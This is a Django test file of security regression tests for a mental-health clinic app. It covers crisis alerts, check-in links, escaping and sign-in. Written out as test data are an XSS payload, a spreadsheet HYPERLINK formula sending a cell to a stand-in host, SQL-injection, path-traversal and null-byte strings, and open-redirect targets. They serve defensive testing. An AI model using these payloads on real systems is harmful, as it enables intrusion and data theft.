"""Attacks: what was found when the clinic was attacked by hand, each so that it stays mended; and what held."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from clinic.conftest import PASSWORD, here_of, person, sample
from euthymia.episode import current_episode
from euthymia.events import Assessment, Concern
from euthymia.moment import Moment
from euthymia_clinic.accounts.models import Role
from euthymia_clinic.alerts.actions import AlertError, acknowledge, raise_concern, resolve
from euthymia_clinic.alerts.models import Alert, Page
from euthymia_clinic.audit.actor import system
from euthymia_clinic.catalogs.in_force import catalog_of
from euthymia_clinic.catalogs.models import Withdrawal
from euthymia_clinic.chart.actions import admit, record_events
from euthymia_clinic.chart.ledger import labels_of
from euthymia_clinic.chart.models import Event, PanelRow
from euthymia_clinic.chart.permissions import may_see
from euthymia_clinic.chart.snapshots import take_snapshot
from euthymia_clinic.chart.to_core import record_of
from euthymia_clinic.checkins import actions, jobs
from euthymia_clinic.checkins.links import hash_of, new_key
from euthymia_clinic.checkins.models import Answer, Checkin, Link
from euthymia_clinic.checkins.planning import Planned

pytestmark = pytest.mark.django_db
BY = system("test")
SCRIPT = "<img src=x onerror=alert(1)>"


@pytest.fixture
def checkin(patient) -> Checkin:
    now = timezone.now()
    return actions.plan_checkin(
        BY, patient, Planned("staff:attack", now.date(), now - timedelta(hours=1), now + timedelta(days=1)), ["phq9"]
    )


@pytest.fixture
def key(checkin) -> str:
    made = new_key()
    Link.objects.create(checkin=checkin, key_hash=hash_of(made), how="mail", expires_at=checkin.closes_at)
    return made


def tap(key, answer, item="9", **said):
    return Client().post(reverse("checkin_question", args=[key, int(item)]), {"question": f"phq9.{item}", "answer": answer, **said})


# An answer on suicidal thoughts is never lost


def out_of_order(monkeypatch):
    """Triage does not work, as where the process ends right after the answer was kept."""

    def fails(*_: object, **__: object) -> None:
        raise RuntimeError

    monkeypatch.setattr("euthymia_clinic.alerts.actions.triage", fails)


def test_a_positive_answer_stays_heard_when_the_check_in_is_excused(checkin, key, owner, patient, monkeypatch):
    with monkeypatch.context() as broken:
        out_of_order(broken)
        tap(key, "2")
    assert not Alert.objects.exists()
    actions.excuse(here_of(owner).actor, here_of(owner), checkin.pk, "in hospital")
    [kept] = [e for e in record_of(patient).of_kind(Assessment) if str(checkin.pk) in e.id]
    assert kept.answers[8] == 2
    jobs.close(timezone.now())
    assert Alert.objects.get().source == kept.id


def test_a_positive_answer_is_heard_before_another_takes_its_place(checkin, key, monkeypatch):
    with monkeypatch.context() as broken:
        out_of_order(broken)
        tap(key, "3")
    assert tap(key, "0").status_code == 302
    assert Answer.objects.get(item="9").value == 0
    assert Alert.objects.exists()


def test_an_answer_after_the_end_is_not_taken_and_help_is_shown(checkin, key):
    Checkin.objects.filter(pk=checkin.pk).update(closes_at=timezone.now() - timedelta(seconds=1))
    page = tap(key, "3")
    assert page.status_code == 410
    assert "988" in page.content.decode()
    assert "555 0100" in page.content.decode()


def test_an_alert_before_the_first_review_stands_on_the_panel_and_stays(site, owner, signed_in):
    found = admit(BY, site, "NEW-1", team=[owner], prescriber=owner)
    raise_concern(here_of(owner).actor, here_of(owner), found, "says they will not be here on Monday", "aa11")
    PanelRow.objects.filter(patient=found).delete()
    with pytest.MonkeyPatch.context() as quiet:
        quiet.setattr("euthymia_clinic.chart.snapshots.AT_ONCE", 0)
        raise_concern(here_of(owner).actor, here_of(owner), found, "said it again", "bb22")
    from euthymia_clinic.alerts.raising import mark

    mark(found)
    assert PanelRow.objects.get(patient=found).alert == "same_day"
    page = signed_in(owner).get("/")
    assert page.status_code == 200
    assert "NEW-1" in page.content.decode()
    found.refresh_from_db()
    take_snapshot(BY, found, site.today())
    assert PanelRow.objects.get(patient=found).alert == "same_day"


def test_who_is_paged_sees_the_chart_although_an_earlier_alert_was_resolved(site, owner, patient):
    paged = person(site, Role.THERAPIST, "On call")
    here = here_of(owner)
    first = raise_concern(here.actor, here, patient, "worried", "first")
    Page.objects.create(alert=first, turn=0, user=paged, at=timezone.now(), channel="mail")
    resolve(here.actor, here, first.pk, "talked with them", acted_on=True)
    assert not may_see(here_of(paged), patient)
    Alert.objects.update(raised_at=timezone.now() - timedelta(days=30))
    second = Alert.objects.create(patient=patient, site=site, tier="high", why="x", source="other", raised_at=timezone.now())
    Page.objects.create(alert=second, turn=0, user=paged, at=timezone.now(), channel="mail")
    assert may_see(here_of(paged), patient)


@pytest.mark.parametrize("note", ["", "   ", "\u200b", "-", "…", "\u2063\n"])
def test_no_alert_ends_without_words(note, owner, patient):
    here = here_of(owner)
    alert = raise_concern(here.actor, here, patient, "worried", "x")
    acknowledge(here.actor, here, alert.pk)
    with pytest.raises(AlertError, match="found no note"):
        resolve(here.actor, here, alert.pk, note, acted_on=False)
    assert PanelRow.objects.get(patient=patient).alert == "same_day"


def test_a_correction_that_lowers_the_answer_leaves_the_alert(owner, patient, checkin, key):
    tap(key, "3")
    actions.close(BY, checkin.pk, checkin.closes_at + timedelta(seconds=1))
    event = Event.objects.get(patient=patient, kind="assessment", event_id__contains=str(checkin.pk))
    said = {**event.body, "id": "lower", "answers": [*event.body["answers"][:8], 0], "supersedes": event.event_id, "recorded_at": None}
    record_events(BY, patient, [Assessment.model_validate(said)])
    from euthymia_clinic.alerts.actions import triage

    triage(BY, patient, "lower")
    triage(BY, patient, event.event_id)
    assert Alert.objects.get().state == "open"


# Links


@pytest.mark.parametrize("answer", ["NaN", "nan", "inf", "1e309", "-1", "٣", "3.0000001", "x" * 10_000, "0 or 1=1", "", " 3", "True"])
def test_what_is_no_answer_is_asked_again(answer, key):
    assert tap(key, answer).status_code == 422
    assert not Answer.objects.exists()


@pytest.mark.parametrize("question", ["phq9.99", "gad7.1", "phq9", "..", "x" * 10_000, "phq9.٣", "cssrs_screener.1"])
def test_a_question_of_another_check_in_is_not_answered(question, key):
    assert tap(key, "3", question=question).status_code in (302, 400)
    assert not Answer.objects.exists()


def test_a_key_that_is_cut_or_changed_opens_nothing(key, site):
    for wrong in (key[:-1], key + "A", key.swapcase(), key[:-1] + "\u00e9", "%00" + key[3:], "../" + key, key[:20] + "\n" + key[21:]):
        assert Client().get(f"/c/{wrong}/").status_code in (400, 404)


def test_wrong_keys_of_one_address_lock_nobody_out_who_has_a_right_one(key, site):
    """A clinic's tablets and a whole family stand behind one address."""
    client = Client(REMOTE_ADDR="10.1.1.1")
    for n in range(40):
        # A forged address in a header is another one for nobody.
        last = client.get(f"/c/{n:043d}/", headers={"X-Forwarded-For": f"10.9.9.{n}"})
    assert last.status_code == 429
    assert client.get(reverse("checkin", args=[key])).status_code == 302
    assert tap(key, "1", item="1").status_code == 302


# What is sent


def test_a_zero_character_is_a_bad_request_everywhere(owner, patient, signed_in):
    client = signed_in(owner)
    assert client.post(reverse("panel_search"), {"search": "a\0b"}).status_code == 400
    assert client.post(reverse("panel_search"), {"a\0b": "x"}).status_code == 400
    assert client.get("/knowledge/", {"q": "a\0b"}).status_code == 400
    assert client.get(f"/patients/{patient.pk}/events/a%00b/correct/").status_code == 400
    other = Client()
    other.cookies["sessionid"] = "a\0" * 8
    assert other.get("/").status_code == 400


def test_a_number_longer_than_any_is_no_error(owner, patient, signed_in):
    for user in ("9" * 5_000, "٣", "-1"):
        assert signed_in(owner).post(reverse("care_team_join", args=[patient.pk]), {"user": user}).status_code == 400


def test_markup_is_shown_as_text_on_every_page(site, owner, signed_in, checkin, patient):
    site.contact = site.name = SCRIPT
    site.save()
    patient.name = patient.code = SCRIPT
    patient.save()
    alert = raise_concern(here_of(owner).actor, here_of(owner), patient, SCRIPT, "x")
    client = signed_in(owner)
    pages = ["/", "/alerts/", "/checkins/", "/kiosk/", "/account/", reverse("alert", args=[alert.pk])]
    pages += [
        reverse(name, args=[patient.pk]) for name in ("chart", "events", "care_team", "send_checkin", "concern", "conversation", "export")
    ]
    for address in pages:
        page = client.get(address).content.decode()
        assert SCRIPT not in page, address
    client.post(reverse("alert_resolve", args=[alert.pk]), {"acted_on": "yes", "note": SCRIPT})
    assert SCRIPT not in client.get(reverse("alert", args=[alert.pk])).content.decode()


def test_no_cell_of_an_export_is_a_formula(patient, owner, signed_in):
    words = '=HYPERLINK("https://x.example?"&A1)'
    record_events(BY, patient, [Concern(id="formula", at=Moment.of(timezone.now()), about="misuse", concern=words)])
    answer = signed_in(owner).post(reverse("export", args=[patient.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(answer)))
    for name in archive.namelist():
        assert not name.startswith(("/", "..")), name
        if name.endswith(".csv"):
            cells = [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
            assert not [c for c in cells if c[:1] in ("=", "@", "+") or ("HYPERLINK" in c and c[:1] != "'")]


# Sign-in


def test_nobody_is_sent_elsewhere_after_signing_in(owner):
    for place in ("https://evil.example/", "//evil.example", "/\\evil.example", "javascript:alert(1)", "http:evil.example"):
        answer = Client().post(reverse("account_login") + "?next=" + place, {"login": owner.email, "password": PASSWORD, "next": place})
        assert answer.status_code == 302
        assert answer.headers["Location"] == "/"


def test_a_session_that_somebody_prepared_is_not_the_one_after_signing_in(owner):
    client = Client()
    session = client.session
    session["prepared"] = 1
    session.save()
    client.post(reverse("account_login"), {"login": owner.email, "password": PASSWORD})
    assert client.session.session_key != session.session_key
    assert "prepared" not in client.session or client.session.session_key != session.session_key


def test_another_host_is_not_served(owner):
    assert Client().get("/accounts/login/", headers={"Host": "evil.example"}).status_code == 400


# A number that was withdrawn


def test_a_review_made_after_the_number_was_withdrawn_shows_none_in_the_past_either(site, patient, owner, signed_in):
    day = current_episode(record_of(patient), catalog_of(site)).series[-1].day
    found = admit(BY, site, "0300", team=[owner])
    record_events(BY, found, sample("holding-above-remission"))
    found.refresh_from_db()
    snapshot = take_snapshot(BY, found, day)
    address = reverse("chart_past", args=[found.pk, snapshot.pk])
    before = signed_in(owner).get(address).content.decode()
    said = {"factor": 99.0, "forecasts": 40, "patients": 20}
    populations = sorted(labels_of(catalog_of(site)))
    Withdrawal(site=site, at=snapshot.made_at - timedelta(days=1), on=site.today(), populations=populations, **said).save()
    after = signed_in(owner).get(address).content.decode()
    assert "Chance of a PHQ-9" in before
    assert "Chance of a PHQ-9" not in after


@pytest.mark.parametrize("year", ["9" * 5_000, "١٩٨٠", "-1980", "1980.0", "NaN"])
def test_a_year_of_birth_that_is_none_is_said_at_its_field(year, owner, signed_in):
    answer = signed_in(owner).post(reverse("admit"), {"code": "N-1", "birth_year": year})
    assert answer.status_code == 422
    assert "found no year of birth" in answer.content.decode()
